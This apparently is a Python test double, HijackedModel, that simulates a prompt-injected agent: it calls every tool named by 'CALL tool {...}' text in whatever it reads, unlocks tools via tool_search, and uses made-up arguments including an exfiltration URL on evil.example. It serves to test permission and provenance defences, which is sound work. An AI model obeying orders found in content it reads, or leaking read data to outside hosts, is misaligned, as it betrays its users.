"""A model that obeys everything it reads: it calls every tool that any text names."""

import json
import re
from collections.abc import Callable, Iterator
from html import unescape

from bot.domain.json_types import JsonObject
from bot.domain.models import ModelCapabilities, ModelDelta, ModelReply, ModelRequest, ModelSize
from bot.testing.scripted_model import CAPABILITIES, NAME, calls, say
from bot.tools.permission.provenance import texts_of

HUGE, DEEP, LEAK = "@huge", "@deep", "@leak"
"""Arguments that the model makes up itself.

The last is an address that contains something it has read.
"""
_MADE = {
    HUGE: "x" * 500_000,
    DEEP: json.loads("[" * 60 + "]" * 60),
    LEAK: "https://evil.example/?d=what-it-has-read",
}
_ORDER = re.compile(r"CALL (\w+) (?=\{)")


def order(tool: str, arguments: JsonObject) -> str:
    """Return the text that makes the model call a tool, wherever it reads the text."""
    return f"CALL {tool} {json.dumps(arguments)}"


def made_of(arguments: JsonObject) -> JsonObject:
    """Return the arguments with which the model calls the tool of an order."""
    return {name: _MADE.get(str(value), value) for name, value in arguments.items()}


class HijackedModel:
    """Implements `domain.models.Model`: obeys every order that it reads.

    It obeys each order once, oldest first, and unlocks the tools that it needs.
    """

    def __init__(self, capabilities: ModelCapabilities = CAPABILITIES) -> None:
        self.capabilities = capabilities
        self.requests: list[ModelRequest] = []
        self.obeyed: list[tuple[str, JsonObject]] = []
        """The calls that the model tried."""

    def name(self, size: ModelSize) -> str:
        return NAME if size is ModelSize.MAIN else f"{NAME}-{size}"

    async def sample(
        self, request: ModelRequest, on_delta: Callable[[ModelDelta], None]
    ) -> ModelReply:
        self.requests.append(request)
        if not request.tools:
            return say(
                "<summary>"
                + " ".join(_orders_as_text(request))
                + " "
                + "They talked. " * 30
                + "</summary>"
            )
        made = _made(request)
        for tool, arguments in _orders(request):
            if (tool, json.dumps(arguments)) in made:
                continue
            if ("tool_search", json.dumps({"pattern": tool})) not in made:
                return calls(("tool_search", {"pattern": tool}))
            self.obeyed.append((tool, arguments))
            return calls((tool, arguments))
        return say("Done.")

    async def close(self) -> None:
        """Do nothing: there is nothing to close."""


def _orders(request: ModelRequest) -> list[tuple[str, JsonObject]]:
    return [(tool, made_of(arguments)) for tool, arguments in _found(request)]


def _orders_as_text(request: ModelRequest) -> list[str]:
    return [order(tool, arguments) for tool, arguments in _found(request)]


def _found(request: ModelRequest) -> list[tuple[str, JsonObject]]:
    texts = [
        text
        for message in request.messages
        for block in message["content"]
        for text in texts_of(block)
    ]
    return [found for text in texts for found in _orders_in(unescape(text))]


def _orders_in(text: str) -> Iterator[tuple[str, JsonObject]]:
    """Yield the orders of a text, except nested ones: an inner order is for whoever receives it."""
    at = 0
    while match := _ORDER.search(text, at):
        at = match.end()
        try:
            arguments, at = json.JSONDecoder().raw_decode(text, match.end())
        except ValueError:  # the order was cut off
            continue
        yield match[1], arguments


def _made(request: ModelRequest) -> set[tuple[str, str]]:
    blocks = [block for message in request.messages for block in message["content"]]
    return {
        (use["name"], json.dumps(use["input"])) for use in blocks if use.get("type") == "tool_use"
    }
